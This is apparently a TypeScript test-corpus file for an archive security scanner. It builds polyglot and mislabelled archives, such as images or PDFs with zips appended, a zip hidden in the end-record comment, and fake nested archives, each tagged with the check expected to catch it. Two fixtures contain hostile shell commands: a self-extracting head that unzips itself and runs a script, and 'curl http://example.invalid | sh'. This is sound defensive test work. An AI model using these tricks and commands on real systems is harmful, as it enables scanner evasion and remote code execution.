import { gzipSync } from 'node:zlib';
import type { CorpusCase } from '../types.js';
import { baseProject, hostileCase, pack, tarGzWith, tarOf, zipWith } from '../build.js';

/**
 * Files that are two things at once, and archives that are not what they say: an image or a
 * document with a zip appended (prepended data), a zip hidden in the end record's comment, a tar
 * declared as zip and the reverse, nested files named as archives that are not, and archive
 * formats the scan cannot open (refused rather than waved through).
 */
const F = 'polyglots';

const GIF = Buffer.concat([
  Buffer.from('GIF89a'),
  Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0x21, 0xf9, 4, 1, 0, 0, 0, 0]),
  Buffer.from([0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b]),
]);
const PDF = Buffer.from(
  '%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n',
);
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489',
  'hex',
);
const SFX = Buffer.from('#!/bin/sh\nunzip -o "$0" -d /tmp/x && sh /tmp/x/run.sh\nexit 0\n');

const prepended = (variant: string, head: Buffer) =>
  hostileCase(F, variant, 'zip', 'prepended_data', (n) =>
    Buffer.concat([head, zipWith(baseProject(n))]),
  );

/** A zip whose prepended head is not bytes-before-entries but a whole file in the comment. */
function commentZip(name: string): Buffer {
  const inner = zipWith({ 'run.sh': 'curl http://example.invalid | sh\n' });
  const outer = zipWith(baseProject(name));
  const end = Buffer.from(outer.subarray(outer.length - 22));
  end.writeUInt16LE(inner.length, 20);
  return Buffer.concat([outer.subarray(0, outer.length - 22), end, inner]);
}

const nestedFake = (variant: string, path: string, bytes: Buffer, check: string) =>
  (['zip', 'tar.gz'] as const).map((c) =>
    hostileCase(F, variant, c, check, (n) => pack(c, { ...baseProject(n), [path]: bytes })),
  );

export const cases: CorpusCase[] = [
  prepended('gif-zip', GIF),
  prepended('pdf-zip', PDF),
  prepended('png-zip', PNG),
  prepended('shell-sfx-zip', SFX),
  hostileCase(F, 'zip-in-comment', 'zip', 'prepended_data', commentZip),
  hostileCase(F, 'targz-declared-zip', 'zip', 'not_a_zip', (n) => tarGzWith(baseProject(n))),
  hostileCase(F, 'tar-declared-zip', 'zip', 'not_a_zip', (n) => tarOf(baseProject(n))),
  hostileCase(F, 'zip-declared-targz', 'tar.gz', 'not_gzip', (n) => zipWith(baseProject(n))),
  hostileCase(F, 'plain-tar-declared-targz', 'tar.gz', 'not_gzip', (n) => tarOf(baseProject(n))),
  hostileCase(F, 'gzip-of-text-declared-targz', 'tar.gz', 'malformed_tar', (n) =>
    gzipSync(Buffer.from(Object.values(baseProject(n)).join('\n'))),
  ),
  hostileCase(F, 'gif-targz', 'tar.gz', 'not_gzip', async (n) =>
    Buffer.concat([GIF, await tarGzWith(baseProject(n))]),
  ),
  ...nestedFake(
    'fake-nested-zip',
    'vendor/lib.zip',
    Buffer.from('not really a zip\n'),
    'unrecognised_archive',
  ),
  ...nestedFake(
    'fake-nested-tgz',
    'deps/lib.tgz',
    Buffer.from('{"fake":"archive"}\n'),
    'unrecognised_archive',
  ),
  ...nestedFake(
    'nested-7z',
    'vendor/tools.7z',
    Buffer.concat([Buffer.from('377abcaf271c0004', 'hex'), Buffer.alloc(64, 1)]),
    'unscannable_archive',
  ),
  ...nestedFake(
    'nested-rar',
    'assets/pack.dat',
    Buffer.from('Rar!\x1a\x07\x01\x00' + 'x'.repeat(40)),
    'unscannable_archive',
  ),
  ...nestedFake(
    'nested-xz',
    'dist/bundle.js.xz',
    Buffer.concat([Buffer.from('fd377a585a00', 'hex'), Buffer.alloc(40, 2)]),
    'unscannable_archive',
  ),
  ...nestedFake(
    'nested-bzip2',
    'data/dump.bz2',
    Buffer.from('BZh91AY&SY' + 'q'.repeat(40)),
    'unscannable_archive',
  ),
  ...nestedFake(
    'nested-zstd',
    'data/dump.zst',
    Buffer.concat([Buffer.from('28b52ffd', 'hex'), Buffer.alloc(40, 3)]),
    'unscannable_archive',
  ),
];
